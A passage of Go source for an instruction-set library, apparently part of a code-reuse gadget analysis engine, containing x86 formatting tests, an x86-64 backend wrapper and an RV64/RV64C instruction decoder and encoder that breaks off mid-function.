		{Inst{Op: OpXor, Size: 4, A: RegOp(RDI), B: RegOp(RDI)}, "xor edi, edi"},
		{Inst{Op: OpSetcc, Cond: CondE, Size: 1, A: RegOp(RAX)}, "sete al"},
		{Inst{Op: OpShl, Size: 8, A: RegOp(RAX), B: RegOp(RCX)}, "shl rax, cl"},
		{
			Inst{Op: OpLea, Size: 8, A: RegOp(R9), B: MemOpIdx(RBX, RCX, 4, -8)},
			"lea r9, qword [rbx+rcx*4-0x8]",
		},
	}
	for _, tt := range tests {
		if got := tt.inst.String(); got != tt.want {
			t.Errorf("String() = %q, want %q", got, tt.want)
		}
	}
}

func TestDisasmText(t *testing.T) {
	var code []byte
	var err error
	for _, inst := range []Inst{
		{Op: OpPop, A: RegOp(RDI)},
		{Op: OpRet},
	} {
		code, err = Append(code, inst, uint64(len(code)))
		if err != nil {
			t.Fatal(err)
		}
	}
	text := DisasmText(code, 0)
	want := "0x00000000: pop rdi\n0x00000001: ret\n"
	if text != want {
		t.Errorf("DisasmText = %q, want %q", text, want)
	}
}
