package isa

// X64 is the original x86-64 backend and the default everywhere a backend
// is not named. It wraps the package-level Decode/Encode and register
// tables, so its behavior is byte-identical to the pre-multi-ISA engine.
var X64 Backend = x64Backend{}

type x64Backend struct{}

func (x64Backend) Name() string                 { return "x64" }
func (x64Backend) PtrSize() int                 { return 8 }
func (x64Backend) NumRegs() int                 { return NumRegs }
func (x64Backend) SP() Reg                      { return RSP }
func (x64Backend) ZeroReg() (Reg, bool)         { return 0, false }
func (x64Backend) LinkReg() (Reg, bool)         { return 0, false }
func (x64Backend) RegName(r Reg) string         { return r.String() }
func (x64Backend) Stride() int                  { return 1 }
func (x64Backend) FormatInst(inst *Inst) string { return inst.String() }

func (x64Backend) RegByName(name string) (Reg, bool) { return RegByName(name) }

func (x64Backend) Decode(code []byte, addr uint64) (Inst, error) {
	return Decode(code, addr)
}

func (x64Backend) Encode(inst Inst, pc uint64) ([]byte, error) {
	return Encode(inst, pc)
}

func (x64Backend) Classify(inst *Inst) Class {
	switch inst.Op {
	case OpRet:
		return ClassRet
	case OpSyscall:
		return ClassSyscall
	case OpJcc:
		return ClassCondBr
	case OpJmp:
		if inst.A.Kind == KindImm {
			return ClassJmpDir
		}
		return ClassJmpInd
	case OpCall:
		if inst.A.Kind == KindImm {
			return ClassCallDir
		}
		return ClassCallInd
	case OpHlt, OpInt3:
		return ClassTrap
	}
	return ClassOther
}

func (x64Backend) Syscall() SyscallABI {
	return SyscallABI{
		Num:  RAX,
		Args: []Reg{RDI, RSI, RDX, R10, R8, R9},
		Ret:  RAX,
	}
}
