package isa

import (
	"fmt"
	"strings"
)

// RV64 is the RISC-V RV64IM backend with the base 4-byte-aligned encoding:
// gadget decodes can only start on instruction-width boundaries, which is
// the property that removes unaligned code-reuse gadgets ("No RISC No
// Reward"). RV64C additionally decodes the C (compressed) extension, whose
// 2-byte encodings reintroduce misaligned decode starts at halfword
// boundaries.
var (
	RV64  Backend = rv64Backend{compressed: false}
	RV64C Backend = rv64Backend{compressed: true}
)

// RV64 integer registers by ABI name. Values are the hardware register
// numbers x0..x31.
const (
	RVZero Reg = 0 // x0, hardwired zero
	RVRA   Reg = 1 // return address
	RVSP   Reg = 2 // stack pointer
	RVGP   Reg = 3 // global pointer
	RVTP   Reg = 4 // thread pointer
	RVT0   Reg = 5
	RVT1   Reg = 6
	RVT2   Reg = 7
	RVS0   Reg = 8 // frame pointer
	RVS1   Reg = 9
	RVA0   Reg = 10
	RVA1   Reg = 11
	RVA2   Reg = 12
	RVA3   Reg = 13
	RVA4   Reg = 14
	RVA5   Reg = 15
	RVA6   Reg = 16
	RVA7   Reg = 17 // syscall number
	RVS2   Reg = 18
	RVS3   Reg = 19
	RVS4   Reg = 20
	RVS5   Reg = 21
	RVS6   Reg = 22
	RVS7   Reg = 23
	RVS8   Reg = 24
	RVS9   Reg = 25
	RVS10  Reg = 26
	RVS11  Reg = 27
	RVT3   Reg = 28
	RVT4   Reg = 29
	RVT5   Reg = 30
	RVT6   Reg = 31

	// RVNumRegs is the RV64 integer register file size.
	RVNumRegs = 32
)

var _rvRegNames = [RVNumRegs]string{
	"zero", "ra", "sp", "gp", "tp", "t0", "t1", "t2",
	"s0", "s1", "a0", "a1", "a2", "a3", "a4", "a5",
	"a6", "a7", "s2", "s3", "s4", "s5", "s6", "s7",
	"s8", "s9", "s10", "s11", "t3", "t4", "t5", "t6",
}

// RVRegName names an RV64 register by ABI name.
func RVRegName(r Reg) string {
	if r < RVNumRegs {
		return _rvRegNames[r]
	}
	return fmt.Sprintf("reg(%d)", uint8(r))
}

func rv64RegByName(name string) (Reg, bool) {
	for i, n := range _rvRegNames {
		if n == name {
			return Reg(i), true
		}
	}
	if name == "fp" {
		return RVS0, true
	}
	if strings.HasPrefix(name, "x") {
		var n int
		if _, err := fmt.Sscanf(name, "x%d", &n); err == nil && n >= 0 && n < RVNumRegs {
			return Reg(n), true
		}
	}
	return 0, false
}

type rv64Backend struct {
	compressed bool
}

func (b rv64Backend) Name() string {
	if b.compressed {
		return "rv64c"
	}
	return "rv64"
}

func (rv64Backend) PtrSize() int         { return 8 }
func (rv64Backend) NumRegs() int         { return RVNumRegs }
func (rv64Backend) SP() Reg              { return RVSP }
func (rv64Backend) ZeroReg() (Reg, bool) { return RVZero, true }
func (rv64Backend) LinkReg() (Reg, bool) { return RVRA, true }
func (rv64Backend) RegName(r Reg) string { return RVRegName(r) }

func (rv64Backend) RegByName(name string) (Reg, bool) { return rv64RegByName(name) }

func (b rv64Backend) Stride() int {
	if b.compressed {
		return 2
	}
	return 4
}

func (rv64Backend) Syscall() SyscallABI {
	return SyscallABI{
		Num:  RVA7,
		Args: []Reg{RVA0, RVA1, RVA2, RVA3, RVA4, RVA5},
		Ret:  RVA0,
	}
}

func (rv64Backend) Classify(inst *Inst) Class {
	switch inst.Op {
	case OpRet:
		return ClassRet
	case OpSyscall:
		return ClassSyscall
	case OpBcc:
		return ClassCondBr
	case OpJmp:
		if inst.A.Kind == KindImm {
			return ClassJmpDir
		}
		// jalr x0: an RV64 "ret" is jr ra — an indirect jump through the
		// link register with no offset.
		if inst.A.Reg == RVRA && inst.B.Kind == KindImm && inst.B.Imm == 0 {
			return ClassRet
		}
		return ClassJmpInd
	case OpCall:
		if inst.A.Kind == KindImm {
			return ClassCallDir
		}
		return ClassCallInd
	case OpJal:
		return ClassCallDir
	case OpJalr:
		return ClassJmpInd
	case OpInt3, OpHlt:
		return ClassTrap
	}
	return ClassOther
}

// rvDecodeError builds a DecodeError for RV64 decoding.
func rvDecodeError(addr uint64, b byte, reason string) error {
	return &DecodeError{Addr: addr, Byte: b, Reason: reason}
}

func signExtend(v uint64, bits uint) int64 {
	shift := 64 - bits
	return int64(v<<shift) >> shift
}

// Decode decodes one RV64 instruction. Misaligned addresses (relative to
// the backend stride) fail, modeling the hardware's instruction-alignment
// fault: on RV64 without C there are no gadget starts inside instructions.
func (b rv64Backend) Decode(code []byte, addr uint64) (Inst, error) {
	if addr%uint64(b.Stride()) != 0 {
		return Inst{}, rvDecodeError(addr, 0, "misaligned instruction address")
	}
	if len(code) < 2 {
		return Inst{}, ErrTruncated
	}
	lo := uint32(code[0]) | uint32(code[1])<<8
	if lo&3 != 3 {
		if !b.compressed {
			return Inst{}, rvDecodeError(addr, code[0], "compressed instruction without C extension")
		}
		inst, err := rvDecodeCompressed(uint16(lo), addr)
		if err != nil {
			return Inst{}, err
		}
		inst.Addr, inst.Len = addr, 2
		return inst, nil
	}
	if len(code) < 4 {
		return Inst{}, ErrTruncated
	}
	word := lo | uint32(code[2])<<16 | uint32(code[3])<<24
	inst, err := rvDecode32(word, addr)
	if err != nil {
		return Inst{}, err
	}
	inst.Addr, inst.Len = addr, 4
	return inst, nil
}

// rvDecode32 decodes one base 32-bit RV64IM instruction (without Addr/Len).
func rvDecode32(w uint32, addr uint64) (Inst, error) {
	opcode := w & 0x7F
	rd := Reg(w >> 7 & 0x1F)
	funct3 := w >> 12 & 7
	rs1 := Reg(w >> 15 & 0x1F)
	rs2 := Reg(w >> 20 & 0x1F)
	funct7 := w >> 25
	immI := signExtend(uint64(w>>20), 12)
	immS := signExtend(uint64(w>>25<<5|w>>7&0x1F), 12)

	bad := func(reason string) (Inst, error) { return Inst{}, rvDecodeError(addr, byte(w), reason) }

	switch opcode {
	case 0x37: // LUI
		if rd == RVZero {
			return Inst{Op: OpNop}, nil
		}
		return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: ImmOp(signExtend(uint64(w)&0xFFFFF000, 32))}, nil

	case 0x17: // AUIPC
		if rd == RVZero {
			return Inst{Op: OpNop}, nil
		}
		return Inst{Op: OpAuipc, Size: 8, A: RegOp(rd), B: ImmOp(signExtend(uint64(w)&0xFFFFF000, 32))}, nil

	case 0x6F: // JAL
		// imm bit layout in the word: [20|10:1|11|19:12].
		imm := signExtend(uint64(
			(w>>31&1)<<20|
				(w>>21&0x3FF)<<1|
				(w>>20&1)<<11|
				(w>>12&0xFF)<<12), 21)
		target := addr + uint64(imm)
		switch rd {
		case RVZero:
			return Inst{Op: OpJmp, Size: 8, A: ImmOp(int64(target))}, nil
		case RVRA:
			return Inst{Op: OpCall, Size: 8, A: ImmOp(int64(target))}, nil
		default:
			return Inst{Op: OpJal, Size: 8, A: ImmOp(int64(target)), B: RegOp(rd)}, nil
		}

	case 0x67: // JALR
		if funct3 != 0 {
			return bad("bad jalr funct3")
		}
		switch rd {
		case RVZero:
			return Inst{Op: OpJmp, Size: 8, A: RegOp(rs1), B: ImmOp(immI)}, nil
		case RVRA:
			return Inst{Op: OpCall, Size: 8, A: RegOp(rs1), B: ImmOp(immI)}, nil
		default:
			return Inst{Op: OpJalr, Size: 8, A: RegOp(rs1), B: RegOp(rd), C: ImmOp(immI)}, nil
		}

	case 0x63: // BRANCH
		imm := signExtend(uint64(
			(w>>31&1)<<12|
				(w>>25&0x3F)<<5|
				(w>>8&0xF)<<1|
				(w>>7&1)<<11), 13)
		target := addr + uint64(imm)
		var cond Cond
		switch funct3 {
		case 0:
			cond = CondE
		case 1:
			cond = CondNE
		case 4:
			cond = CondL
		case 5:
			cond = CondGE
		case 6:
			cond = CondB
		case 7:
			cond = CondAE
		default:
			return bad("bad branch funct3")
		}
		return Inst{Op: OpBcc, Cond: cond, Size: 8, A: ImmOp(int64(target)), B: RegOp(rs1), C: RegOp(rs2)}, nil

	case 0x03: // LOAD
		if rd == RVZero {
			return Inst{Op: OpNop}, nil
		}
		mem := MemOp(rs1, int32(immI))
		switch funct3 {
		case 0:
			return Inst{Op: OpLoad, Size: 1, A: RegOp(rd), B: mem}, nil
		case 1:
			return Inst{Op: OpLoad, Size: 2, A: RegOp(rd), B: mem}, nil
		case 2:
			return Inst{Op: OpLoad, Size: 4, A: RegOp(rd), B: mem}, nil
		case 3:
			return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: mem}, nil
		case 4:
			return Inst{Op: OpLoadU, Size: 1, A: RegOp(rd), B: mem}, nil
		case 5:
			return Inst{Op: OpLoadU, Size: 2, A: RegOp(rd), B: mem}, nil
		case 6:
			return Inst{Op: OpLoadU, Size: 4, A: RegOp(rd), B: mem}, nil
		default:
			return bad("bad load funct3")
		}

	case 0x23: // STORE
		mem := MemOp(rs1, int32(immS))
		switch funct3 {
		case 0:
			return Inst{Op: OpMov, Size: 1, A: mem, B: RegOp(rs2)}, nil
		case 1:
			return Inst{Op: OpMov, Size: 2, A: mem, B: RegOp(rs2)}, nil
		case 2:
			return Inst{Op: OpMov, Size: 4, A: mem, B: RegOp(rs2)}, nil
		case 3:
			return Inst{Op: OpMov, Size: 8, A: mem, B: RegOp(rs2)}, nil
		default:
			return bad("bad store funct3")
		}

	case 0x13: // OP-IMM
		if rd == RVZero {
			return Inst{Op: OpNop}, nil
		}
		switch funct3 {
		case 0: // addi
			if rs1 == RVZero {
				return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: ImmOp(immI)}, nil
			}
			if immI == 0 {
				return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: RegOp(rs1)}, nil
			}
			return Inst{Op: OpAdd, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		case 1: // slli
			if funct7>>1 != 0 {
				return bad("bad slli funct6")
			}
			return Inst{Op: OpShl, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(int64(w >> 20 & 0x3F))}, nil
		case 2:
			return Inst{Op: OpSlt, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		case 3:
			return Inst{Op: OpSltu, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		case 4:
			return Inst{Op: OpXor, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		case 5: // srli/srai
			switch funct7 >> 1 {
			case 0:
				return Inst{Op: OpShr, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(int64(w >> 20 & 0x3F))}, nil
			case 0x10:
				return Inst{Op: OpSar, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(int64(w >> 20 & 0x3F))}, nil
			default:
				return bad("bad shift funct6")
			}
		case 6:
			return Inst{Op: OpOr, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		default:
			return Inst{Op: OpAnd, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: ImmOp(immI)}, nil
		}

	case 0x33: // OP
		if rd == RVZero {
			return Inst{Op: OpNop}, nil
		}
		mk := func(op Op) (Inst, error) {
			return Inst{Op: op, Size: 8, A: RegOp(rd), B: RegOp(rs1), C: RegOp(rs2)}, nil
		}
		switch funct7 {
		case 0:
			switch funct3 {
			case 0:
				return mk(OpAdd)
			case 1:
				return mk(OpShl)
			case 2:
				return mk(OpSlt)
			case 3:
				return mk(OpSltu)
			case 4:
				return mk(OpXor)
			case 5:
				return mk(OpShr)
			case 6:
				return mk(OpOr)
			default:
				return mk(OpAnd)
			}
		case 0x20:
			switch funct3 {
			case 0:
				return mk(OpSub)
			case 5:
				return mk(OpSar)
			default:
				return bad("bad funct3 for funct7=0x20")
			}
		case 1: // M extension
			switch funct3 {
			case 0:
				return mk(OpImul)
			case 4:
				return mk(OpDiv)
			case 5:
				return mk(OpDivU)
			case 6:
				return mk(OpRem)
			case 7:
				return mk(OpRemU)
			default:
				return bad("unsupported M-extension instruction")
			}
		default:
			return bad("bad OP funct7")
		}

	case 0x73: // SYSTEM
		switch w {
		case 0x00000073:
			return Inst{Op: OpSyscall}, nil
		case 0x00100073:
			return Inst{Op: OpInt3}, nil
		default:
			return bad("unsupported system instruction")
		}
	}
	return bad("unsupported opcode")
}

// creg maps a 3-bit compressed register field onto x8..x15.
func creg(f uint16) Reg { return Reg(f&7) + 8 }

// rvDecodeCompressed decodes one RVC (compressed) instruction as its base
// expansion (without Addr/Len). All re-encodes emit the 4-byte canonical
// form; round trips are encode-fixpoint stable, not length preserving.
func rvDecodeCompressed(h uint16, addr uint64) (Inst, error) {
	bad := func(reason string) (Inst, error) { return Inst{}, rvDecodeError(addr, byte(h), reason) }
	if h == 0 {
		return bad("illegal instruction (all zero)")
	}
	funct3 := h >> 13
	switch h & 3 {
	case 0:
		switch funct3 {
		case 0: // c.addi4spn
			imm := int64(h>>11&3)<<4 | int64(h>>7&0xF)<<6 | int64(h>>6&1)<<2 | int64(h>>5&1)<<3
			if imm == 0 {
				return bad("reserved c.addi4spn")
			}
			return Inst{Op: OpAdd, Size: 8, A: RegOp(creg(h >> 2)), B: RegOp(RVSP), C: ImmOp(imm)}, nil
		case 2: // c.lw
			imm := int64(h>>10&7)<<3 | int64(h>>6&1)<<2 | int64(h>>5&1)<<6
			return Inst{Op: OpLoad, Size: 4, A: RegOp(creg(h >> 2)), B: MemOp(creg(h>>7), int32(imm))}, nil
		case 3: // c.ld
			imm := int64(h>>10&7)<<3 | int64(h>>5&3)<<6
			return Inst{Op: OpMov, Size: 8, A: RegOp(creg(h >> 2)), B: MemOp(creg(h>>7), int32(imm))}, nil
		case 6: // c.sw
			imm := int64(h>>10&7)<<3 | int64(h>>6&1)<<2 | int64(h>>5&1)<<6
			return Inst{Op: OpMov, Size: 4, A: MemOp(creg(h>>7), int32(imm)), B: RegOp(creg(h >> 2))}, nil
		case 7: // c.sd
			imm := int64(h>>10&7)<<3 | int64(h>>5&3)<<6
			return Inst{Op: OpMov, Size: 8, A: MemOp(creg(h>>7), int32(imm)), B: RegOp(creg(h >> 2))}, nil
		default:
			return bad("unsupported compressed Q0 instruction")
		}

	case 1:
		switch funct3 {
		case 0: // c.nop / c.addi
			rd := Reg(h >> 7 & 0x1F)
			imm := signExtend(uint64(h>>12&1)<<5|uint64(h>>2&0x1F), 6)
			if rd == RVZero || imm == 0 {
				return Inst{Op: OpNop}, nil
			}
			return Inst{Op: OpAdd, Size: 8, A: RegOp(rd), B: RegOp(rd), C: ImmOp(imm)}, nil
		case 2: // c.li
			rd := Reg(h >> 7 & 0x1F)
			if rd == RVZero {
				return Inst{Op: OpNop}, nil
			}
			imm := signExtend(uint64(h>>12&1)<<5|uint64(h>>2&0x1F), 6)
			return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: ImmOp(imm)}, nil
		case 3:
			rd := Reg(h >> 7 & 0x1F)
			switch rd {
			case RVSP: // c.addi16sp
				imm := signExtend(uint64(h>>12&1)<<9|
					uint64(h>>6&1)<<4|uint64(h>>5&1)<<6|
					uint64(h>>3&3)<<7|uint64(h>>2&1)<<5, 10)
				if imm == 0 {
					return bad("reserved c.addi16sp")
				}
				return Inst{Op: OpAdd, Size: 8, A: RegOp(RVSP), B: RegOp(RVSP), C: ImmOp(imm)}, nil
			case RVZero:
				return Inst{Op: OpNop}, nil
			default: // c.lui
				imm := signExtend(uint64(h>>12&1)<<17|uint64(h>>2&0x1F)<<12, 18)
				if imm == 0 {
					return bad("reserved c.lui")
				}
				return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: ImmOp(imm)}, nil
			}
		case 4: // misc-alu
			rd := creg(h >> 7)
			switch h >> 10 & 3 {
			case 0: // c.srli
				shamt := int64(h>>12&1)<<5 | int64(h>>2&0x1F)
				return Inst{Op: OpShr, Size: 8, A: RegOp(rd), B: RegOp(rd), C: ImmOp(shamt)}, nil
			case 1: // c.srai
				shamt := int64(h>>12&1)<<5 | int64(h>>2&0x1F)
				return Inst{Op: OpSar, Size: 8, A: RegOp(rd), B: RegOp(rd), C: ImmOp(shamt)}, nil
			case 2: // c.andi
				imm := signExtend(uint64(h>>12&1)<<5|uint64(h>>2&0x1F), 6)
				return Inst{Op: OpAnd, Size: 8, A: RegOp(rd), B: RegOp(rd), C: ImmOp(imm)}, nil
			default:
				if h>>12&1 != 0 {
					return bad("unsupported compressed W-form")
				}
				rs2 := creg(h >> 2)
				var op Op
				switch h >> 5 & 3 {
				case 0:
					op = OpSub
				case 1:
					op = OpXor
				case 2:
					op = OpOr
				default:
					op = OpAnd
				}
				return Inst{Op: op, Size: 8, A: RegOp(rd), B: RegOp(rd), C: RegOp(rs2)}, nil
			}
		case 5: // c.j
			imm := signExtend(uint64(h>>12&1)<<11|
				uint64(h>>11&1)<<4|uint64(h>>9&3)<<8|uint64(h>>8&1)<<10|
				uint64(h>>7&1)<<6|uint64(h>>6&1)<<7|uint64(h>>3&7)<<1|
				uint64(h>>2&1)<<5, 12)
			return Inst{Op: OpJmp, Size: 8, A: ImmOp(int64(addr + uint64(imm)))}, nil
		case 6, 7: // c.beqz / c.bnez
			imm := signExtend(uint64(h>>12&1)<<8|
				uint64(h>>10&3)<<3|uint64(h>>5&3)<<6|
				uint64(h>>3&3)<<1|uint64(h>>2&1)<<5, 9)
			cond := CondE
			if funct3 == 7 {
				cond = CondNE
			}
			return Inst{Op: OpBcc, Cond: cond, Size: 8,
				A: ImmOp(int64(addr + uint64(imm))), B: RegOp(creg(h >> 7)), C: RegOp(RVZero)}, nil
		default:
			return bad("unsupported compressed Q1 instruction")
		}

	default: // quadrant 2
		rd := Reg(h >> 7 & 0x1F)
		switch funct3 {
		case 0: // c.slli
			if rd == RVZero {
				return Inst{Op: OpNop}, nil
			}
			shamt := int64(h>>12&1)<<5 | int64(h>>2&0x1F)
			return Inst{Op: OpShl, Size: 8, A: RegOp(rd), B: RegOp(rd), C: ImmOp(shamt)}, nil
		case 2: // c.lwsp
			if rd == RVZero {
				return bad("reserved c.lwsp")
			}
			imm := int64(h>>12&1)<<5 | int64(h>>4&7)<<2 | int64(h>>2&3)<<6
			return Inst{Op: OpLoad, Size: 4, A: RegOp(rd), B: MemOp(RVSP, int32(imm))}, nil
		case 3: // c.ldsp
			if rd == RVZero {
				return bad("reserved c.ldsp")
			}
			imm := int64(h>>12&1)<<5 | int64(h>>5&3)<<3 | int64(h>>2&7)<<6
			return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: MemOp(RVSP, int32(imm))}, nil
		case 4:
			rs2 := Reg(h >> 2 & 0x1F)
			if h>>12&1 == 0 {
				if rs2 == RVZero { // c.jr
					if rd == RVZero {
						return bad("reserved c.jr")
					}
					return Inst{Op: OpJmp, Size: 8, A: RegOp(rd), B: ImmOp(0)}, nil
				}
				if rd == RVZero { // hint
					return Inst{Op: OpNop}, nil
				}
				return Inst{Op: OpMov, Size: 8, A: RegOp(rd), B: RegOp(rs2)}, nil // c.mv
			}
			if rs2 == RVZero {
				if rd == RVZero { // c.ebreak
					return Inst{Op: OpInt3}, nil
				}
				return Inst{Op: OpCall, Size: 8, A: RegOp(rd), B: ImmOp(0)}, nil // c.jalr
			}
			if rd == RVZero { // hint
				return Inst{Op: OpNop}, nil
			}
			return Inst{Op: OpAdd, Size: 8, A: RegOp(rd), B: RegOp(rd), C: RegOp(rs2)}, nil // c.add
		case 6: // c.swsp
			imm := int64(h>>9&0xF)<<2 | int64(h>>7&3)<<6
			return Inst{Op: OpMov, Size: 4, A: MemOp(RVSP, int32(imm)), B: RegOp(Reg(h >> 2 & 0x1F))}, nil
		case 7: // c.sdsp
			imm := int64(h>>10&7)<<3 | int64(h>>7&7)<<6
			return Inst{Op: OpMov, Size: 8, A: MemOp(RVSP, int32(imm)), B: RegOp(Reg(h >> 2 & 0x1F))}, nil
		default:
			return bad("unsupported compressed Q2 instruction")
		}
	}
}

// fitsImm12 reports whether v fits a 12-bit signed immediate.
func fitsImm12(v int64) bool { return v >= -2048 && v < 2048 }

// Encode emits the canonical 4-byte encoding for an instruction placed at
// pc. Compressed decodes re-encode as their base expansions; the fuzz
// contract is encode-fixpoint stability, not byte preservation.
func (b rv64Backend) Encode(inst Inst, pc uint64) ([]byte, error) {
	w, err := rvEncode32(inst, pc)
	if err != nil {
		return nil, err
	}
	return []byte{byte(w), byte(w >> 8), byte(w >> 16), byte(w >> 24)}, nil
}

// EncodeError mirrors the x86 encoder's error reporting for RV64.
func rvEncodeError(format string, args ...any) error {
	return fmt.Errorf("isa: rv64 encode: "+format, args...)
}

func rvR(funct7, rs2, rs1, funct3, rd, opcode uint32) uint32 {
	return funct7<<25 | rs2<<20 | rs1<<15 | funct3<<12 | rd<<7 | opcode
}

func rvI(imm int64, rs1, funct3, rd, opcode uint32) uint32 {
	return uint32(imm&0xFFF)<<20 | rs1<<15 | funct3<<12 | rd<<7 | opcode
}

func rvS(imm int64, rs2, rs1, funct3, opcode uint32) uint32 {
	return uint32(imm>>5&0x7F)<<25 | rs2<<20 | rs1<<15 | funct3<<12 | uint32(imm&0x1F)<<7 | opcode
}

func rvB(imm int64, rs2, rs1, funct3 uint32) uint32 {
	return uint32(imm>>12&1)<<31 | uint32(imm>>5&0x3F)<<25 | rs2<<20 | rs1<<15 |
		funct3<<12 | uint32(imm>>1&0xF)<<8 | uint32(imm>>11&1)<<7 | 0x63
}

func rvJ(imm int64, rd uint32) uint32 {
	return uint32(imm>>20&1)<<31 | uint32(imm>>1&0x3FF)<<21 | uint32(imm>>11&1)<<20 |
		uint32(imm>>12&0xFF)<<12 | rd<<7 | 0x6F
}

// rvALUFunct maps a three-operand ALU op onto (funct3, funct7 for the
// register form, whether an immediate form exists).
func rvALUFunct(op Op) (funct3, funct7 uint32, hasImm bool, ok bool) {
	switch op {
	case OpAdd:
		return 0, 0, true, true
	case OpShl:
		return 1, 0, true, true
	case OpSlt:
		return 2, 0, true, true
	case OpSltu:
		return 3, 0, true, true
	case OpXor:
		return 4, 0, true, true
	case OpShr:
		return 5, 0, true, true
	case OpOr:
		return 6, 0, true, true
	case OpAnd:
		return 7, 0, true, true
	case OpSub:
		return 0, 0x20, false, true
	case OpSar:
		return 5, 0x20, true, true
	case OpImul:
		return 0, 1, false, true
	case OpDiv:
		return 4, 1, false, true
	case OpDivU:
		return 5, 1, false, true
	case OpRem:
		return 6, 1, false, true
	case OpRemU:
		return 7, 1, false, true
	}
	return 0, 0, false, false
}

func rvEncode32(inst Inst, pc uint64) (uint32, error) {
	reg := func(o Operand) uint32 { return uint32(o.Reg) }
	branchRel := func(target int64) (int64, error) {
		rel := target - int64(pc)
		if rel < -4096 || rel >= 4096 || rel&1 != 0 {
			return 0, rvEncodeError("branch target out of range: %#x -> %#x", pc, target)
		}
		return rel, nil
	}

	switch inst.Op {
	case OpNop:
		return rvI(0, 0, 0, 0, 0x13), nil // addi x0, x0, 0

	case OpSyscall:
		return 0x00000073, nil

	case OpInt3:
		return 0x00100073, nil

	case OpMov:
		switch {
		case inst.A.Kind == KindReg && inst.B.Kind == KindReg:
			return rvI(0, reg(inst.B), 0, reg(inst.A), 0x13), nil // addi rd, rs, 0
		case inst.A.Kind == KindReg && inst.B.Kind == KindImm:
			v := inst.B.Imm
			if fitsImm12(v) {
				return rvI(v, 0, 0, reg(inst.A), 0x13), nil // addi rd, x0, imm
			}
			if v&0xFFF == 0 && v == signExtend(uint64(v)&0xFFFFFFFF, 32) {
				return uint32(v)&0xFFFFF000 | reg(inst.A)<<7 | 0x37, nil // lui
			}
			return 0, rvEncodeError("li immediate %#x needs a multi-instruction sequence", v)
		case inst.A.Kind == KindReg && inst.B.Kind == KindMem:
			m := inst.B.Mem
			if !m.HasBase || m.HasIndex || m.RIPRel {
				return 0, rvEncodeError("unsupported memory operand")
			}
			if inst.Size != 8 && inst.Size != 0 {
				return 0, rvEncodeError("register loads via mov must be 8 bytes (use OpLoad)")
			}
			return rvI(int64(m.Disp), uint32(m.Base), 3, reg(inst.A), 0x03), nil // ld
		case inst.A.Kind == KindMem && inst.B.Kind == KindReg:
			m := inst.A.Mem
			if !m.HasBase || m.HasIndex || m.RIPRel {
				return 0, rvEncodeError("unsupported memory operand")
			}
			var funct3 uint32
			switch inst.Size {
			case 1:
				funct3 = 0
			case 2:
				funct3 = 1
			case 4:
				funct3 = 2
			case 8, 0:
				funct3 = 3
			default:
				return 0, rvEncodeError("bad store size %d", inst.Size)
			}
			return rvS(int64(m.Disp), reg(inst.B), uint32(m.Base), funct3, 0x23), nil
		}
		return 0, rvEncodeError("unsupported mov form")

	case OpLoad, OpLoadU:
		if inst.A.Kind != KindReg || inst.B.Kind != KindMem {
			return 0, rvEncodeError("bad load operands")
		}
		m := inst.B.Mem
		if !m.HasBase || m.HasIndex || m.RIPRel {
			return 0, rvEncodeError("unsupported memory operand")
		}
		var funct3 uint32
		switch inst.Size {
		case 1:
			funct3 = 0
		case 2:
			funct3 = 1
		case 4:
			funct3 = 2
		default:
			return 0, rvEncodeError("bad load size %d", inst.Size)
		}
		if inst.Op == OpLoadU {
			funct3 |= 4
		}
		return rvI(int64(m.Disp), uint32(m.Base), funct3, reg(inst.A), 0x03), nil

	case OpAuipc:
		if inst.A.Kind != KindReg || inst.B.Kind != KindImm {
			return 0, rvEncodeError("bad auipc operands")
		}
		v := inst.B.Imm
		if v&0xFFF != 0 || v != signExtend(uint64(v)&0xFFFFFFFF, 32) {
			return 0, rvEncodeError("bad auipc immediate %#x", v)
		}
		return uint32(v)&0xFFFFF000 | reg(inst.A)<<7 | 0x17, nil

	case OpAdd, OpSub, OpAnd, OpOr, OpXor, OpShl, OpShr, OpSar,
		OpSlt, OpSltu, OpImul, OpDiv, OpDivU, OpRem, OpRemU:
		if inst.A.Kind != KindReg || inst.B.Kind != KindReg || inst.C.Kind == KindNone {
			return 0, rvEncodeError("%s needs the three-operand form", inst.Op)
		}
		funct3, funct7, hasImm, ok := rvALUFunct(inst.Op)
		if !ok {
			return 0, rvEncodeError("unsupported ALU op %s", inst.Op)
		}
		if inst.C.Kind == KindReg {
			return rvR(funct7, reg(inst.C), reg(inst.B), funct3, reg(inst.A), 0x33), nil
		}
		if !hasImm {
			return 0, rvEncodeError("%s has no immediate form", inst.Op)
		}
		v := inst.C.Imm
		switch inst.Op {
		case OpShl, OpShr, OpSar:
			if v < 0 || v > 63 {
				return 0, rvEncodeError("bad shift amount %d", v)
			}
			return rvI(v|int64(funct7)<<5, reg(inst.B), funct3, reg(inst.A), 0x13), nil
		default:
			if !fitsImm12(v) {
				return 0, rvEncodeError("immediate %#x out of range", v)
			}
			return rvI(v, reg(inst.B), funct3, reg(inst.A), 0x13), nil
		}

	case OpBcc:
		if inst.A.Kind != KindImm || inst.B.Kind != KindReg || inst.C.Kind != KindReg {
			return 0, rvEncodeError("bad branch operands")
		}
		var funct3 uint32
		switch inst.Cond {
		case CondE:
			funct3 = 0
		case CondNE:
			funct3 = 1
		case CondL:
			funct3 = 4
		case CondGE:
			funct3 = 5
		case CondB:
			funct3 = 6
		case CondAE:
			funct3 = 7
		default:
			return 0, rvEncodeError("unsupported branch condition %s", inst.Cond)
		}
		rel, err := branchRel(inst.A.Imm)
		if err != nil {
			return 0, err
		}
